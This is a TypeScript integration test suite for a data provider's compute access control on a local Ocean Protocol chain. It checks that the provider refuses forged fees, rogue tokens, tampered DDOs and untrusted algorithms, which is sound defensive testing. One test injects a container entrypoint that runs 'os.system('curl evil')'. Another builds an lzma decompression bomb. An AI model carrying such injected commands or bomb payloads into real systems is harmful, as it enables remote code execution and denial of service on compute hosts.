import { createHash, randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import {
  Contract,
  JsonRpcProvider,
  NonceManager,
  Wallet,
  ZeroAddress,
  getBytes,
  hexlify,
  parseUnits,
  sha256,
  toUtf8Bytes,
} from 'ethers';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { reachableBase, type ReachableBase } from '../support/reachable-base.ts';
import { deployOcean, oceanArtifact } from '../../devcluster/chain.ts';
import {
  algorithmDdo,
  datasetDdo,
  deployDatatokenOutsideFactory,
  deployNftOutsideFactory,
  lzmaCompress,
  orderAsset,
  publishAsset,
  reuseOrder,
  setAssetDdo,
  setAssetMetadata,
  type Ddo as PublishDdo,
  type PublishedAsset,
} from '../../devcluster/ocean-assets.ts';
import { encodeProviderData, signProviderFee, type ProviderFee } from '../../lib/chain/provider-fee.ts';
import { containerSectionChecksum } from '../../lib/access/algo-checksums.ts';
import type { AccessSettings } from '../../lib/access/check-job.ts';
import { loadPublishedAlgorithm, withFileDigests } from '../../lib/access/algorithm.ts';
import { authorizeStart, type StartInput } from '../../lib/access/authorize-start.ts';
import type { ChainContext } from '../../lib/access/chain-context.ts';
import { evaluateComputePolicy, findService, type PolicyContext } from '../../lib/access/compute-policy.ts';
import { parseDdoDocument } from '../../lib/access/ddo.ts';
import { AccessDenied, ChainUnavailable } from '../../lib/access/errors.ts';
import { checkFeePaid, feeTermsFor } from '../../lib/access/fees.ts';
import { initializeCompute, issueProviderFee } from '../../lib/access/initialize.ts';
import { verifyOrder, type OrderRequest } from '../../lib/access/order.ts';
import { minedReceipt, succeeded } from '../../devcluster/receipts.ts';
import { resolveDdo } from '../../lib/access/resolve-ddo.ts';
import { createChainProvider } from '../../lib/access/rpc.ts';
import { decryptServiceFiles } from '../../lib/access/service-files.ts';
import { parsePrivateHostAllowList } from '../../lib/http/address-policy.ts';
import type { Environment } from '../../lib/job/environments.ts';

// Started once per run by test/support/platform-setup.ts: anvil with Ocean's contracts deployed.
const env = inject('platform');
const providerWallet = new Wallet(env.keys.provider);
const consumer = new Wallet(env.keys.consumer);
const other = new Wallet(env.keys.other);
const publisher = new Wallet(env.keys.publisher);
const PROVIDER_URL = 'http://127.0.0.1:8030';
const IMAGE = { entrypoint: 'python $ALGO', image: 'python', tag: '3.12', checksum: 'sha256:' + 'ab'.repeat(32) };
const ENV_ID = 'small';
const environment = {
  id: ENV_ID,
  fees: [
    {
      chainId: env.chainId,
      feeToken: env.ocean.Ocean!.toLowerCase(),
      pricePerMinute: parseUnits('0.01', 18).toString(),
    },
  ],
};

const rpcProvider = createChainProvider(env.rpcUrl, env.chainId);
const chain: ChainContext = { provider: rpcProvider, chainId: env.chainId, factoryAddress: env.ocean.ERC721Factory! };
const policy: PolicyContext = { providerUrls: [PROVIDER_URL], consumerAddress: consumer.address };
const fileRules = { privateHosts: parsePrivateHostAllowList('127.0.0.0/8') };
// What functions/start hands authorizeStart; the environment is free, so a fee of 0 pays for it.
const access: AccessSettings = { chain, key: providerWallet, providerUrls: [PROVIDER_URL], files: fileRules };
const freeEnvironment: Environment = {
  id: ENV_ID,
  description: '',
  cpu: 1,
  memoryMiB: 256,
  diskMiB: 64,
  maxJobDurationSeconds: 3600,
  maxConcurrentJobs: 1,
  storageExpirySeconds: 3600,
  consumerAddress: providerWallet.address,
  fees: [],
  allowNetworkAccess: false,
};

// The algorithm's code is served here, so the files checksum is computed from real downloads.
const algoFiles = new Map<string, string>();
let server: Server;
let filesBase: string;
let reachable: ReachableBase | undefined;

beforeAll(async () => {
  server = createServer((req, res) => {
    const body = algoFiles.get(req.url ?? '');
    res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'text/plain' }).end(body ?? 'not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  reachable = await reachableBase(env, (server.address() as { port: number }).port);
  filesBase = reachable.base;
});

afterAll(async () => {
  rpcProvider.destroy();
  await reachable?.stop();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

const now = () => Math.floor(Date.now() / 1000);
const sha256hex = (s: string) => createHash('sha256').update(s).digest('hex');

async function publishAlgorithm(code = 'print(42)', container = IMAGE): Promise<PublishedAsset> {
  const path = `/algo-${randomBytes(6).toString('hex')}.py`;
  algoFiles.set(path, code);
  return publishAsset({
    rpcUrl: env.rpcUrl,
    ocean: env.ocean,
    publisherKey: env.keys.publisher,
    ddo: algorithmDdo({
      name: 'algo',
      files: [{ type: 'url', url: filesBase + path, method: 'GET' }],
      serviceEndpoint: PROVIDER_URL,
      container,
    }),
    encryptFilesTo: providerWallet.signingKey.publicKey,
    providerAddress: providerWallet.address,
    mintTo: consumer.address,
  });
}

function trustOf(algo: PublishedAsset, code = 'print(42)') {
  return { did: algo.did, filesChecksum: sha256hex(code), containerSectionChecksum: containerSectionChecksum(IMAGE) };
}

interface DatasetOptions {
  trusted?: PublishedAsset[];
  endpoint?: string;
  timeout?: number;
  allowRawAlgorithm?: boolean;
  encryptDdo?: boolean;
  compressDdo?: boolean;
}

function datasetDocument(opts: DatasetOptions = {}): PublishDdo {
  return datasetDdo({
    name: 'dataset',
    files: [
      {
        type: 'url',
        url: 'https://data.example/weather.csv',
        method: 'GET',
        headers: { Authorization: 'Bearer s3cr3t' },
      },
    ],
    serviceEndpoint: opts.endpoint ?? PROVIDER_URL,
    timeout: opts.timeout ?? 3600,
    compute: {
      allowNetworkAccess: true,
      allowRawAlgorithm: opts.allowRawAlgorithm ?? false,
      publisherTrustedAlgorithms: (opts.trusted ?? []).map((a) => trustOf(a)),
    },
  });
}

async function publishDataset(opts: DatasetOptions & { ocean?: Record<string, string> } = {}): Promise<PublishedAsset> {
  return publishAsset({
    rpcUrl: env.rpcUrl,
    ocean: opts.ocean ?? env.ocean,
    publisherKey: env.keys.publisher,
    ddo: datasetDocument(opts),
    encryptFilesTo: providerWallet.signingKey.publicKey,
    ...(opts.encryptDdo && { encryptDdoTo: providerWallet.signingKey.publicKey }),
    compressDdo: opts.compressDdo ?? false,
    providerAddress: providerWallet.address,
    mintTo: consumer.address,
  });
}

type Asset = Omit<PublishedAsset, 'createTxHash'>;

/** Sets a dataset DDO on `nftAddress` (owned by the publisher) that names `datatoken`, whoever made either. */
function listDataset(nftAddress: string, datatoken: string): Promise<Asset> {
  return setAssetDdo({
    rpcUrl: env.rpcUrl,
    publisherKey: env.keys.publisher,
    ddo: datasetDocument({ allowRawAlgorithm: true }),
    encryptFilesTo: providerWallet.signingKey.publicKey,
    providerAddress: providerWallet.address,
    nftAddress,
    datatokenAddresses: [datatoken],
  });
}

/** A start request for the asset's compute service with a raw algorithm: only the dataset's order is checked. */
function rawStart(asset: Asset, transferTxId: string): StartInput {
  return {
    consumer: consumer.address,
    dataset: { documentId: asset.did, serviceId: asset.ddo.services[0]!.id, transferTxId },
    additionalDatasets: [],
    algorithm: { meta: { rawcode: 'print(1)', container: IMAGE } },
    environment: freeEnvironment,
  };
}

function freshFee(
  asset: Asset,
  o: { signer?: Wallet; environment?: string; validUntil?: number; charge?: boolean } = {},
): ProviderFee {
  const service = asset.ddo.services[0]!;
  const t = now();
  if (o.signer) {
    return signProviderFee(o.signer, {
      providerFeeToken: env.ocean.Ocean!,
      providerFeeAmount: 0n,
      providerData: encodeProviderData({
        environment: o.environment ?? ENV_ID,
        timestamp: t,
        dt: service.datatokenAddress,
        id: service.id,
      }),
      validUntil: o.validUntil ?? t + 3600,
    });
  }
  return issueProviderFee(providerWallet, {
    environmentId: o.environment ?? ENV_ID,
    datatoken: service.datatokenAddress,
    serviceId: service.id,
    terms: feeTermsFor(environment, env.chainId),
    charge: o.charge ?? false,
    validUntil: o.validUntil ?? t + 3600,
    now: t,
  });
}

function order(
  asset: Asset,
  fee: ProviderFee,
  o: { serviceIndex?: number; consumerKey?: string } = {},
): Promise<string> {
  return orderAsset({
    rpcUrl: env.rpcUrl,
    consumerKey: o.consumerKey ?? env.keys.consumer,
    datatokenAddress: asset.datatokenAddresses[0]!,
    serviceIndex: o.serviceIndex ?? 0,
    providerFee: fee,
  });
}

async function orderRequest(asset: Asset, txId: string, over: Partial<OrderRequest> = {}): Promise<OrderRequest> {
  const { ddo } = await resolveDdo(chain, providerWallet.privateKey, asset.did);
  return {
    txId,
    ddo,
    service: findService(ddo, ddo.services[0]!.id),
    consumerAddress: consumer.address,
    providerAddress: providerWallet.address,
    environmentId: ENV_ID,
    jobDurationSeconds: 600,
    field: 'dataset.transferTxId',
    ...over,
  };
}

async function refusal(promise: Promise<unknown>): Promise<AccessDenied> {
  const err = await promise.then(
    () => new Error('expected a refusal'),
    (e: unknown) => e,
  );
  if (!(err instanceof AccessDenied)) throw err;
  return err;
}

let algorithm: PublishedAsset;
let dataset: PublishedAsset;

describe('access control against the local chain', () => {
  beforeAll(async () => {
    algorithm = await publishAlgorithm();
    dataset = await publishDataset({ trusted: [algorithm] });
  });

  it('runs publish → initializeCompute → order with those fees → every check of start', async () => {
    const resolved = await resolveDdo(chain, providerWallet.privateKey, dataset.did);
    expect(resolved.ddo).toMatchObject({ id: dataset.did, nftAddress: dataset.nftAddress, chainId: env.chainId });
    expect(resolved.metaDataHash).toBe(sha256(toUtf8Bytes(resolved.document)));
    const loaded = await loadPublishedAlgorithm(
      chain,
      providerWallet.privateKey,
      algorithm.did,
      'access-0',
      policy,
      fileRules,
    );
    expect(loaded.facts.owner).toBe(publisher.address);
    const { facts } = await withFileDigests(loaded, fileRules);
    expect(facts.filesChecksum).toBe(sha256hex('print(42)'));

    const permit = evaluateComputePolicy({
      ...policy,
      datasets: [{ ddo: resolved.ddo, serviceId: 'compute-0' }],
      algorithm: facts,
    });
    expect(permit.trust).toEqual(['trusted-algorithm']);
    expect(permit.allowNetworkAccess).toBe(true);
    const ds = permit.datasets[0]!;
    const algo = permit.algorithm.kind === 'published' ? permit.algorithm : undefined;
    expect(algo).toBeDefined();

    const validUntil = now() + 900;
    const init = await initializeCompute(chain, providerWallet, {
      datasets: [{ ddo: resolved.ddo, service: ds, field: 'datasets.0' }],
      algorithm: { ddo: loaded.resolved.ddo, service: algo!, field: 'algorithm' },
      environment,
      validUntil,
      consumerAddress: consumer.address,
    });
    const dsInit = init.datasets[0]!;
    expect(dsInit.datatoken).toBe(dataset.datatokenAddresses[0]);
    expect(BigInt(dsInit.providerFee!.providerFeeAmount)).toBe(parseUnits('0.15', 18));
    expect(init.algorithm?.providerFee?.providerFeeAmount).toBe('0');

    const datasetTx = await order(dataset, dsInit.providerFee!, { serviceIndex: ds.index });
    const algoTx = await order(algorithm, init.algorithm!.providerFee!);
    const base = {
      consumerAddress: consumer.address,
      providerAddress: providerWallet.address,
      environmentId: ENV_ID,
      jobDurationSeconds: 600,
    };
    const dsProof = await verifyOrder(chain, { ...base, txId: datasetTx, ddo: resolved.ddo, service: ds });
    const algoProof = await verifyOrder(chain, { ...base, txId: algoTx, ddo: loaded.resolved.ddo, service: algo! });
    expect(dsProof).toMatchObject({
      consumer: consumer.address,
      serviceIndex: ds.index,
      reused: false,
      amount: parseUnits('1', 18),
    });
    expect(algoProof.providerFee.providerData).toMatchObject({
      environment: ENV_ID,
      dt: algorithm.datatokenAddresses[0],
    });
    checkFeePaid([dsProof.providerFee, algoProof.providerFee], feeTermsFor(environment, env.chainId));
    expect(() => checkFeePaid([algoProof.providerFee], feeTermsFor(environment, env.chainId))).toThrow(
      expect.objectContaining({ code: 'PROVIDER_FEE_NOT_PAID' }),
    );
    expect(decryptServiceFiles(providerWallet.privateKey, resolved.ddo, ds.service, fileRules)).toEqual([
      { url: 'https://data.example/weather.csv', method: 'GET', headers: { Authorization: 'Bearer s3cr3t' } },
    ]);

    // Asking again with the order: it still covers the request.
    const again = await initializeCompute(chain, providerWallet, {
      datasets: [{ ddo: resolved.ddo, service: ds, transferTxId: datasetTx, field: 'datasets.0' }],
      environment,
      validUntil: validUntil - 60,
      consumerAddress: consumer.address,
    });
    expect(again.datasets[0]).toEqual({ validOrder: datasetTx.toLowerCase() });
  });

  it('offers reuseOrder when the order holds but its fee does not cover the request, and accepts the reuse', async () => {
    const asset = await publishDataset({ allowRawAlgorithm: true });
    const tx = await order(asset, freshFee(asset, { validUntil: now() + 120 }));
    const req = await orderRequest(asset, tx);
    const init = await initializeCompute(chain, providerWallet, {
      datasets: [{ ddo: req.ddo, service: req.service, transferTxId: tx, field: 'datasets.0' }],
      environment,
      validUntil: now() + 1800,
      consumerAddress: consumer.address,
    });
    expect(init.datasets[0]?.validOrder).toBe(tx.toLowerCase());
    expect(init.datasets[0]?.providerFee).toBeDefined();
    const reuseTx = await reuseOrder({
      rpcUrl: env.rpcUrl,
      consumerKey: env.keys.consumer,
      datatokenAddress: asset.datatokenAddresses[0]!,
      orderTxId: tx,
      providerFee: init.datasets[0]!.providerFee!,
    });
    const proof = await verifyOrder(chain, { ...req, txId: reuseTx, jobDurationSeconds: 1500 });
    expect(proof).toMatchObject({ reused: true, orderTxId: tx.toLowerCase(), txId: reuseTx.toLowerCase() });
  });

  it('resolves a DDO published encrypted to this provider, and refuses one encrypted to another', async () => {
    const asset = await publishDataset({ encryptDdo: true });
    const resolved = await resolveDdo(chain, providerWallet.privateKey, asset.did);
    expect(resolved.event.flags).toBe('0x02');
    expect(resolved.ddo.id).toBe(asset.did);
    expect((await refusal(resolveDdo(chain, other.privateKey, asset.did))).code).toBe('DDO_NOT_DECRYPTABLE');
  });

  describe('refuses the order', () => {
    it('when another consumer placed it', async () => {
      const tx = await order(dataset, freshFee(dataset));
      const err = await refusal(
        verifyOrder(chain, await orderRequest(dataset, tx, { consumerAddress: other.address })),
      );
      expect(err.code).toBe('ORDER_WRONG_CONSUMER');
    });

    it('for another service index', async () => {
      const tx = await order(dataset, freshFee(dataset), { serviceIndex: 3 });
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe(
        'ORDER_WRONG_SERVICE_INDEX',
      );
    });

    it('after the service timeout passed', async () => {
      const asset = await publishDataset({ timeout: 1 });
      const tx = await order(asset, freshFee(asset));
      await new Promise((r) => setTimeout(r, 2_100));
      expect((await refusal(verifyOrder(chain, await orderRequest(asset, tx)))).code).toBe('ORDER_EXPIRED');
    });

    it('of the datatoken of another asset', async () => {
      const another = await publishDataset();
      const tx = await order(another, freshFee(another));
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe('ORDER_WRONG_DATATOKEN');
    });

    it('whose DDO names the datatoken of another asset', async () => {
      // Another published NFT claims the dataset's datatoken: a real order of that token must not open this asset.
      const pretender = await publishDataset();
      const claimed = await listDataset(pretender.nftAddress, dataset.datatokenAddresses[0]!);
      const tx = await order(claimed, freshFee(claimed));
      const err = await refusal(verifyOrder(chain, await orderRequest(claimed, tx)));
      expect(err).toMatchObject({ code: 'DATATOKEN_NOT_OF_ASSET', httpStatus: 403, field: 'dataset.transferTxId' });
      await expect(verifyOrder(chain, await orderRequest(dataset, tx))).resolves.toMatchObject({
        datatoken: dataset.datatokenAddresses[0],
      });
    });

    it("of a datatoken deployed outside the factory, even one naming the asset's NFT", async () => {
      const asset = await publishDataset();
      const lookAlike = await deployDatatokenOutsideFactory({
        rpcUrl: env.rpcUrl,
        deployerKey: env.keys.publisher,
        ocean: env.ocean,
        nftAddress: asset.nftAddress,
        mintTo: consumer.address,
      });
      const relisted = await listDataset(asset.nftAddress, lookAlike);
      const tx = await order(relisted, freshFee(relisted));
      const logs = (await rpcProvider.getTransactionReceipt(tx))!.logs;
      expect(logs.some((l) => l.address === lookAlike)).toBe(true); // the look-alike did emit the order events
      const err = await refusal(verifyOrder(chain, await orderRequest(relisted, tx)));
      expect(err).toMatchObject({ code: 'DATATOKEN_NOT_FROM_FACTORY', httpStatus: 403 });
    });

    it('of an NFT and datatoken deployed from the templates outside any factory', async () => {
      const outside = { rpcUrl: env.rpcUrl, deployerKey: env.keys.publisher, ocean: env.ocean };
      const nft = await deployNftOutsideFactory(outside);
      const dt = await deployDatatokenOutsideFactory({ ...outside, nftAddress: nft, mintTo: consumer.address });
      const rogue = await listDataset(nft, dt);
      const err = await refusal(resolveDdo(chain, providerWallet.privateKey, rogue.did, { nftAddress: nft }));
      expect(err).toMatchObject({ code: 'NFT_NOT_FROM_FACTORY', httpStatus: 403 });
      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, rogue.did))).code).toBe('DDO_NOT_FOUND');
      const tx = await order(rogue, freshFee(rogue));
      const ddo = parseDdoDocument(JSON.stringify(rogue.ddo));
      const req = { ...(await orderRequest(dataset, tx)), ddo, service: findService(ddo, 'compute-0') };
      expect((await refusal(verifyOrder(chain, req))).code).toBe('NFT_NOT_FROM_FACTORY');
    });

    it('of an NFT the known factory did not create', async () => {
      const rogueOcean = await deployOcean(env.rpcUrl, env.keys.other);
      const rogue = await publishDataset({ ocean: rogueOcean });
      const err = await refusal(
        resolveDdo(chain, providerWallet.privateKey, rogue.did, { nftAddress: rogue.nftAddress }),
      );
      expect(err.code).toBe('NFT_NOT_FROM_FACTORY');
      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, rogue.did))).code).toBe('DDO_NOT_FOUND');
      const tx = await order(rogue, freshFee(rogue));
      const ddo = rogue.ddo as unknown as Parameters<typeof findService>[0];
      const req = { ...(await orderRequest(dataset, tx)), ddo, service: findService(ddo, 'compute-0') };
      expect((await refusal(verifyOrder(chain, req))).code).toBe('NFT_NOT_FROM_FACTORY');
    });

    it('whose fee another key signed', async () => {
      const tx = await order(dataset, freshFee(dataset, { signer: other }));
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe(
        'PROVIDER_FEE_WRONG_PROVIDER',
      );
    });

    it('at start, whose fee another key signed, naming itself so that the chain accepted it', async () => {
      const asset = await publishDataset({ allowRawAlgorithm: true });
      const forged = freshFee(asset, { signer: other });
      expect(forged.providerFeeAddress).toBe(other.address);
      const tx = await order(asset, forged);
      const err = await refusal(authorizeStart(access, rawStart(asset, tx)));
      expect(err).toMatchObject({
        code: 'PROVIDER_FEE_WRONG_PROVIDER',
        httpStatus: 403,
        field: 'dataset.transferTxId',
      });

      // The same consumer and asset with this provider's fee start; reusing that order with a forged fee does not.
      const good = await order(asset, freshFee(asset));
      expect((await authorizeStart(access, rawStart(asset, good))).orders).toEqual([good.toLowerCase()]);
      const reuse = await reuseOrder({
        rpcUrl: env.rpcUrl,
        consumerKey: env.keys.consumer,
        datatokenAddress: asset.datatokenAddresses[0]!,
        orderTxId: good,
        providerFee: freshFee(asset, { signer: other }),
      });
      const reuseErr = await refusal(authorizeStart(access, rawStart(asset, reuse)));
      expect(reuseErr).toMatchObject({ code: 'PROVIDER_FEE_WRONG_PROVIDER', field: 'dataset.transferTxId' });
    });

    it('whose fee expires before the job would end', async () => {
      const tx = await order(dataset, freshFee(dataset, { validUntil: now() + 60 }));
      const err = await refusal(verifyOrder(chain, await orderRequest(dataset, tx, { jobDurationSeconds: 3600 })));
      expect(err.code).toBe('PROVIDER_FEE_EXPIRED');
    });

    it('whose fee is for another environment', async () => {
      const tx = await order(dataset, freshFee(dataset, { environment: 'large' }));
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, tx)))).code).toBe(
        'PROVIDER_FEE_WRONG_ENVIRONMENT',
      );
    });

    it('when the transaction reverted or is unknown', async () => {
      const wallet = consumer.connect(new JsonRpcProvider(env.rpcUrl, undefined, { staticNetwork: true }));
      const dt = new Contract(dataset.datatokenAddresses[0]!, oceanArtifact('ERC20Template').abi, wallet);
      const badFee = { ...freshFee(dataset), validUntil: now() + 7200 }; // the signature no longer matches
      const market = {
        consumeMarketFeeAddress: ZeroAddress,
        consumeMarketFeeToken: ZeroAddress,
        consumeMarketFeeAmount: 0,
      };
      const sent = await dt
        .getFunction('startOrder')
        .send(consumer.address, 0, badFee, market, { gasLimit: 1_000_000 });
      await minedReceipt(rpcProvider, sent.hash, 'the reverted startOrder');
      (wallet.provider as JsonRpcProvider).destroy();
      expect((await rpcProvider.getTransactionReceipt(sent.hash))?.status).toBe(0);
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, sent.hash)))).code).toBe(
        'ORDER_TX_REVERTED',
      );
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, hexlify(randomBytes(32)))))).code).toBe(
        'ORDER_TX_NOT_FOUND',
      );
      expect((await refusal(verifyOrder(chain, await orderRequest(dataset, '0x1234')))).code).toBe('TX_ID_MALFORMED');
    });
  });

  describe('refuses the DDO', () => {
    it('when the document on chain does not match its hash (changed after publishing)', async () => {
      const asset = await publishDataset();
      const nft = new Contract(
        asset.nftAddress,
        oceanArtifact('ERC721Template').abi,
        new NonceManager(publisher.connect(rpcProvider)),
      );
      const original = toUtf8Bytes(JSON.stringify(asset.ddo));
      const changed: PublishDdo = { ...asset.ddo, metadata: { ...asset.ddo.metadata, name: 'swapped' } };
      const tx = await nft
        .getFunction('setMetaData')
        .send(
          0,
          PROVIDER_URL,
          providerWallet.address,
          '0x00',
          toUtf8Bytes(JSON.stringify(changed)),
          sha256(original),
          [],
        );
      await succeeded(tx, 'setMetaData');
      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe('DDO_HASH_MISMATCH');
    });

    it('when a cached copy differs from the chain', async () => {
      const tampered = { ...dataset.ddo, metadata: { ...dataset.ddo.metadata, name: 'cached-but-changed' } };
      const err = await refusal(
        resolveDdo(chain, providerWallet.privateKey, dataset.did, {
          cached: tampered as unknown as Record<string, unknown>,
        }),
      );
      expect(err.code).toBe('DDO_CACHE_HASH_MISMATCH');
      const ok = await resolveDdo(chain, providerWallet.privateKey, dataset.did, {
        cached: { ...dataset.ddo, nft: { state: 0 } } as unknown as Record<string, unknown>,
      });
      expect(ok.ddo.id).toBe(dataset.did);
    });

    it('when the asset is deprecated or revoked', async () => {
      const asset = await publishDataset();
      const nft = new Contract(
        asset.nftAddress,
        oceanArtifact('ERC721Template').abi,
        new NonceManager(publisher.connect(rpcProvider)),
      );
      await succeeded(await nft.getFunction('setMetaDataState').send(2), 'setMetaDataState(2)');
      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe(
        'DDO_STATE_DEPRECATED',
      );
      await succeeded(await nft.getFunction('setMetaDataState').send(3), 'setMetaDataState(3)');
      expect((await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did))).code).toBe('DDO_STATE_REVOKED');
    });
  });

  describe("compressed DDOs, as Ocean's Python publishers write them (lzma.compress)", () => {
    it('resolves a compressed DDO (flags 1) and starts a job on it', async () => {
      const asset = await publishDataset({ compressDdo: true, allowRawAlgorithm: true });
      const resolved = await resolveDdo(chain, providerWallet.privateKey, asset.did);
      expect(resolved.event.flags).toBe('0x01');
      expect(hexlify(getBytes(resolved.event.data).slice(0, 6))).toBe('0xfd377a585a00'); // the .xz magic
      expect(resolved.document).toBe(JSON.stringify(asset.ddo));
      expect(resolved.metaDataHash).toBe(sha256(toUtf8Bytes(resolved.document)));
      const tx = await order(asset, freshFee(asset));
      const grant = await authorizeStart(access, rawStart(asset, tx));
      expect(grant.datasets).toMatchObject([
        { did: asset.did, serviceId: 'compute-0', transferTxId: tx.toLowerCase() },
      ]);
      expect(grant.secret.ddos[asset.did]).toEqual(JSON.parse(resolved.document));
    });

    it('decrypts, then decompresses, a DDO compressed and then encrypted to this provider (flags 3)', async () => {
      const asset = await publishDataset({ compressDdo: true, encryptDdo: true, allowRawAlgorithm: true });
      const resolved = await resolveDdo(chain, providerWallet.privateKey, asset.did);
      expect(resolved.event.flags).toBe('0x03');
      expect(resolved.document).toBe(JSON.stringify(asset.ddo));
      expect((await refusal(resolveDdo(chain, other.privateKey, asset.did))).code).toBe('DDO_NOT_DECRYPTABLE');
      const tx = await order(asset, freshFee(asset));
      expect((await authorizeStart(access, rawStart(asset, tx))).datasets[0]?.did).toBe(asset.did);
    });

    it('refuses a compressed DDO that expands beyond the cap (a decompression bomb)', async () => {
      const asset = await publishDataset();
      const spaces = toUtf8Bytes(' '.repeat(5 * 1024 * 1024));
      const bomb = lzmaCompress(spaces);
      expect(bomb.length).toBeLessThan(2_000);
      const nft = new Contract(
        asset.nftAddress,
        oceanArtifact('ERC721Template').abi,
        new NonceManager(publisher.connect(rpcProvider)),
      );
      await succeeded(
        await nft
          .getFunction('setMetaData')
          .send(0, PROVIDER_URL, providerWallet.address, '0x01', bomb, sha256(spaces), []),
        'setMetaData',
      );
      const err = await refusal(resolveDdo(chain, providerWallet.privateKey, asset.did));
      expect(err).toMatchObject({ code: 'DDO_TOO_LARGE', httpStatus: 403 });
    });
  });

  describe('refuses the algorithm', () => {
    async function permitFor(algo: PublishedAsset, datasetAsset = dataset) {
      const { ddo } = await resolveDdo(chain, providerWallet.privateKey, datasetAsset.did);
      const loaded = await loadPublishedAlgorithm(
        chain,
        providerWallet.privateKey,
        algo.did,
        'access-0',
        policy,
        fileRules,
      );
      const { facts } = await withFileDigests(loaded, fileRules);
      return evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: facts });
    }
    const code = async (p: Promise<unknown>) => (await refusal(p)).code;

    it('when it is not trusted', async () => {
      expect(await code(permitFor(await publishAlgorithm('print("untrusted")')))).toBe('ALGORITHM_NOT_TRUSTED');
    });

    it('when its files changed after trust was given', async () => {
      const algo = await publishAlgorithm('print("v1")');
      const ds = await publishAsset({
        rpcUrl: env.rpcUrl,
        ocean: env.ocean,
        publisherKey: env.keys.publisher,
        ddo: datasetDdo({
          name: 'pins v1',
          files: [{ type: 'url', url: 'https://data.example/x.csv', method: 'GET' }],
          serviceEndpoint: PROVIDER_URL,
          compute: { publisherTrustedAlgorithms: [trustOf(algo, 'print("v1")')] },
        }),
        encryptFilesTo: providerWallet.signingKey.publicKey,
        providerAddress: providerWallet.address,
      });
      expect((await permitFor(algo, ds)).trust).toEqual(['trusted-algorithm']);
      for (const [path, body] of algoFiles) if (body === 'print("v1")') algoFiles.set(path, 'print("v2")');
      expect(await code(permitFor(algo, ds))).toBe('ALGORITHM_FILES_CHANGED');
    });

    it('when its container changed after trust was given', async () => {
      const algo = await publishAlgorithm();
      const ds = await publishDataset({ trusted: [algo] });
      const changed: PublishDdo = structuredClone(algo.ddo);
      changed.metadata.algorithm!.container.entrypoint = 'python -c "import os; os.system(\'curl evil\')" $ALGO';
      await setAssetMetadata({
        rpcUrl: env.rpcUrl,
        publisherKey: env.keys.publisher,
        nftAddress: algo.nftAddress,
        ddo: changed,
        providerUrl: PROVIDER_URL,
        providerAddress: providerWallet.address,
      });
      expect(await code(permitFor(algo, ds))).toBe('ALGORITHM_CONTAINER_CHANGED');
    });

    it('when it is raw and the dataset does not allow raw algorithms', async () => {
      const { ddo } = await resolveDdo(chain, providerWallet.privateKey, dataset.did);
      const raw = { kind: 'raw' as const, rawcode: 'print(1)', container: IMAGE };
      expect(() =>
        evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: raw }),
      ).toThrow(expect.objectContaining({ code: 'RAW_ALGORITHM_NOT_ALLOWED' }));
    });
  });

  it('refuses a service whose endpoint is another provider', async () => {
    const elsewhere = await publishDataset({ trusted: [algorithm], endpoint: 'https://provider.other.example' });
    const { ddo } = await resolveDdo(chain, providerWallet.privateKey, elsewhere.did);
    const loaded = await loadPublishedAlgorithm(
      chain,
      providerWallet.privateKey,
      algorithm.did,
      'access-0',
      policy,
      fileRules,
    );
    expect(() =>
      evaluateComputePolicy({ ...policy, datasets: [{ ddo, serviceId: 'compute-0' }], algorithm: loaded.facts }),
    ).toThrow(expect.objectContaining({ code: 'SERVICE_ENDPOINT_NOT_OURS' }));
  });

  it('answers ChainUnavailable, not a hang, when the RPC is down', async () => {
    const dead = createChainProvider('http://127.0.0.1:9', env.chainId);
    try {
      const err = await resolveDdo(
        { ...chain, provider: dead, rpcTimeoutMs: 2_000 },
        providerWallet.privateKey,
        dataset.did,
      ).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(ChainUnavailable);
    } finally {
      dead.destroy();
    }
  });
});
